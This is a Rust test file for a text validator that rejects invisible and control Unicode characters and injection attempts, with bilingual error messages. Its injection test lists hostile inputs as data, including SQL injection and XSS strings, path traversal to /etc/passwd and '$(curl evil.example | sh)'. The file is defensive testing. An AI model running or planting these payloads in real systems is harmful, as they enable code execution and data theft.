//! `safe_text`: what is not seen, and injections.

use proptest::prelude::*;

use super::passes;
use crate::validate::Rule;

#[test]
fn what_is_not_seen_is_refused_wherever_it_stands() {
    let hidden = [
        '\0',
        '\u{7}',
        '\u{8}',
        '\r',
        '\u{b}',
        '\u{c}',
        '\u{1b}',
        '\u{7f}',
        '\u{80}',
        '\u{85}',
        '\u{9b}',
        '\u{ad}',
        '\u{34f}',
        '\u{61c}',
        '\u{115f}',
        '\u{1160}',
        '\u{17b4}',
        '\u{180e}',
        '\u{200b}',
        '\u{200c}',
        '\u{200d}',
        '\u{200e}',
        '\u{200f}',
        '\u{2028}',
        '\u{2029}',
        '\u{202a}',
        '\u{202b}',
        '\u{202c}',
        '\u{202d}',
        '\u{202e}',
        '\u{2060}',
        '\u{2061}',
        '\u{2064}',
        '\u{2066}',
        '\u{2067}',
        '\u{2068}',
        '\u{2069}',
        '\u{206f}',
        '\u{2800}',
        '\u{3164}',
        '\u{fe00}',
        '\u{fe0e}',
        '\u{fe0f}',
        '\u{feff}',
        '\u{ffa0}',
        '\u{fff9}',
        '\u{1d173}',
        '\u{e0001}',
        '\u{e0041}',
        '\u{e0100}',
    ];
    for c in hidden {
        for text in [format!("{c}"), format!("{c}a"), format!("a{c}"), format!("字{c}字")] {
            assert!(!passes(Rule::SafeText, &text), "{text:?}");
        }
    }
}

#[test]
fn the_error_says_which_and_where() {
    let error = Rule::SafeText.check_text("管\u{202e}理").unwrap_err();
    assert_eq!(
        error.text(crate::Locale::En),
        "character 2 is a control or invisible character (U+202E)"
    );
    assert_eq!(error.text(crate::Locale::Zh), "第 2 个字是控制字符或不可见字符（U+202E）");
}

/// Each kind, plain and hidden.
#[test]
fn injections_are_refused_by_their_kind() {
    for (text, zh, en) in [
        ("'; DROP TABLE users; --", "SQL", "SQL"),
        ("1' OR '1'='1", "SQL", "SQL"),
        ("1%2527%20OR%20%25271%2527=%25271", "SQL", "SQL"),
        ("1＇ ＯＲ ＇1＇＝＇1", "SQL", "SQL"),
        ("<script>alert(1)</script>", "脚本", "script"),
        ("&lt;img src=x onerror=alert(1)&gt;", "脚本", "script"),
        ("x; cat /etc/passwd", "命令", "command"),
        ("$(curl evil.example | sh)", "命令", "command"),
        ("{{7*7}}", "模板", "template"),
        ("../../../../etc/passwd", "路径", "path"),
        ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "路径", "path"),
        ("x%0d%0aSet-Cookie: a=b", "换行", "header"),
    ] {
        let error = Rule::SafeText.check_text(text).expect_err(text);
        for (locale, kind, start) in [
            (crate::Locale::Zh, zh, "不能包含像是"),
            (crate::Locale::En, en, "must not hold what looks like"),
        ] {
            let said = error.text(locale);
            assert!(said.starts_with(start) && said.contains(kind), "{text}: {said}");
        }
    }
}

#[test]
fn talk_about_what_attackers_write_passes() {
    for text in [
        "请更新规则",
        "please update the rules",
        "select one from the list; then drop it",
        "it's 1 or 2 -- you choose",
        "a < b && c > d",
        "{name}",
        "cat 和 rm 怎么用？",
        "src/../lib.rs",
        "第一行\n第二行：好",
    ] {
        assert!(passes(Rule::SafeText, text), "{text:?}");
    }
}

#[test]
fn what_people_write_passes() {
    for text in [
        "",
        "hello\tworld\n",
        "你好，世界！",
        "日本語のテキスト",
        "한국어",
        "Привет",
        "العربية",
        "naïve café e\u{301}",
        "❤\u{fe0f} ☎\u{fe0e} ✌\u{1f3fd}",
        "👨\u{200d}👩\u{200d}👧",
        "🏳\u{fe0f}\u{200d}🌈",
        "👩\u{1f3fd}\u{200d}🚀",
        "❤\u{fe0f}\u{200d}🔥",
        "1\u{fe0f}\u{20e3}",
        "🇨🇳",
        "ａｂｃ　全角",
    ] {
        assert!(passes(Rule::SafeText, text), "{text:?}");
    }
}

#[test]
fn joiners_of_emoji_hide_nothing_else() {
    for text in [
        "👨\u{200d}",
        "\u{200d}👨",
        "👨\u{200d}\u{200d}👩",
        "👨\u{200d}a",
        "a\u{200d}👨",
        "❤\u{fe0f}\u{fe0f}",
        "b\u{fe0f}ad",
        "1\u{fe0f}",
        "1\u{fe0f}2",
        "👨\u{200b}👩",
    ] {
        assert!(!passes(Rule::SafeText, text), "{text:?}");
    }
}

proptest! {
    #[test]
    fn what_passes_turns_no_direction_and_holds_no_control(text: String, at in 0..8_usize) {
        let turned = "\u{202e}\u{2066}\u{200f}\u{1b}\u{200b}\u{feff}\0\u{e0041}";
        let c = turned.chars().nth(at).unwrap_or('\0');
        let text = format!("{text}{c}{text}");
        prop_assert!(!passes(Rule::SafeText, &text));
    }

    #[test]
    fn letters_and_digits_pass(text in r"[\p{L}\p{N} ]{0,20}") {
        // Fillers that are letters to Unicode, and are not seen.
        let fillers = ['\u{115f}', '\u{1160}', '\u{3164}', '\u{ffa0}'];
        prop_assert_eq!(passes(Rule::SafeText, &text), !text.contains(fillers));
    }
}
